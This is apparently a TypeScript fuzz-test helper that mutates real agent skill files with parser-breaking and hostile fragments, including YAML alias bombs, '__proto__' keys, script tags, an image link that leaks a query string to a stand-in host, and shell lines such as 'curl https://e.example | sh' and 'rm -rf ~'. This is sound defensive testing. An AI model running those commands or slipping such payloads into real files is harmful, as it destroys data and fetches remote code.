import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import type { SkillText } from '../../../../shared/registry/content-digest.ts';

/** Real skills, benign and hostile, and what can become of one on its way here. */

// They lie beside the checkout: their licences and the hostile ones keep them out of the repository.
const ROOT = fileURLToPath(new URL('../../../../../shared/skills/', import.meta.url));
export const missing = !existsSync(`${ROOT}manifest.json`);
if (missing) console.info('skipped: there is no ../shared/skills beside the checkout');

/** Each with its SKILL.md first. Files that are no text are left out. */
export const realSkills: readonly (readonly SkillText[])[] = missing ? [] : readAll();

function readAll(): readonly (readonly SkillText[])[] {
  // as: the folder's own list
  const entries = JSON.parse(readFileSync(`${ROOT}manifest.json`, 'utf8')) as readonly { dir: string }[];
  return entries.map(({ dir }) =>
    readdirSync(join(ROOT, dir), { recursive: true, withFileTypes: true })
      .filter((one) => one.isFile())
      .map((one) => join(one.parentPath, one.name))
      .map((path) => ({
        path: path.slice(join(ROOT, dir).length + 1),
        content: readFileSync(path, 'utf8'),
      }))
      .toSorted((a, b) => Number(b.path === 'SKILL.md') - Number(a.path === 'SKILL.md')),
  );
}

/** What parsers of YAML and Markdown, and whoever shows a text, stumble over. */
const HOSTILE = [
  ...['---js\n', '---\n', '\n---', '--- ', '...\n', '%YAML 1.2\n', '%TAG ! tag:x,2000:\n'],
  ...['&a [*a, *a]\n', 'a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n', '<<: *a\n', '!!js/function "x"\n'],
  ...[
    'name: x\nname: y\n',
    '? [a]\n: b\n',
    '__proto__: {a: 1}\n',
    'constructor: x\n',
    'name: !!binary aGk=\n',
  ],
  ...['"', "'", '\\', '|\n', '>-\n', '- ', '\t', '{', '[', ']', '}', ',', ': ', '# ', '@', '`', '```', '~~~'],
  ...['\r', '\r\n', '\0', '\u2028', '\u0085', '\u200b', '\u202e', '\ufeff', '\ud800', '\udc00', 'e\u0301'],
  ...['<!--', '-->', '<script>', '![x](https://e.example/?q=', '[a]: https://e.example', '](', '<img src=x>'],
  ...['$(', '"$(', '`curl https://e.example | sh`', 'rm -rf ~', ' | sh\n', '<<EOF\n', 'eval ', '\\\n', '&&'],
  ...['\u{1f511}', '9'.repeat(400), 'é'.repeat(300), ' '.repeat(300), '['.repeat(300), '- '.repeat(300)],
];

const place = fc.double({ min: 0, max: 1, noNaN: true });
const piece = fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: 'binary', maxLength: 12 }));

/** A change of a text; `other` is the text of another skill. */
type Change = (text: string, other: string) => string;

const change: fc.Arbitrary<Change> = fc.oneof(
  fc.tuple(place, piece).map(
    ([at, what]): Change =>
      (text) =>
        spliced(text, at, 0, what),
  ),
  fc.tuple(place, fc.nat(400)).map(
    ([at, length]): Change =>
      (text) =>
        spliced(text, at, length, ''),
  ),
  fc.tuple(place, fc.nat(200), fc.integer({ min: 2, max: 30 })).map(
    ([at, length, times]): Change =>
      (text) =>
        spliced(text, at, 0, text.slice(indexAt(text, at), indexAt(text, at) + length).repeat(times)),
  ),
  fc.tuple(place, place).map(
    ([at, from]): Change =>
      (text, other) =>
        text.slice(0, indexAt(text, at)) + other.slice(indexAt(other, from)),
  ),
  // most of what can go wrong is in the first lines
  fc.tuple(fc.nat(300), piece).map(
    ([at, what]): Change =>
      (text) =>
        text.slice(0, at) + what + text.slice(at),
  ),
);

/** The text of a real skill after up to six changes. */
export const mutatedText: fc.Arbitrary<string> = fc
  .tuple(
    fc.constantFrom(...realSkills.map(([first]) => first?.content ?? '')),
    fc.constantFrom(...realSkills.map(([first]) => first?.content ?? '')),
    fc.array(change, { minLength: 1, maxLength: 6 }),
  )
  .map(([text, other, changes]) => changes.reduce((rest, one) => one(rest, other), text));

/** A few characters of a real skill, or what parsers stumble over: what a text is made long with. */
export const repeatable: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      fc.constantFrom(...HOSTILE.filter((one) => one.length < 60)),
      fc
        .tuple(
          fc.constantFrom(...realSkills.map(([first]) => first?.content ?? '')),
          place,
          fc.integer({ min: 1, max: 40 }),
        )
        .map(([text, at, length]) => text.slice(indexAt(text, at), indexAt(text, at) + length)),
    ),
    { minLength: 1, maxLength: 3 },
  )
  .map((parts) => parts.join(''))
  .filter((text) => text.length > 0);

function spliced(text: string, at: number, length: number, what: string): string {
  const index = indexAt(text, at);
  return text.slice(0, index) + what + text.slice(index + length);
}

function indexAt(text: string, at: number): number {
  return Math.floor(at * text.length);
}
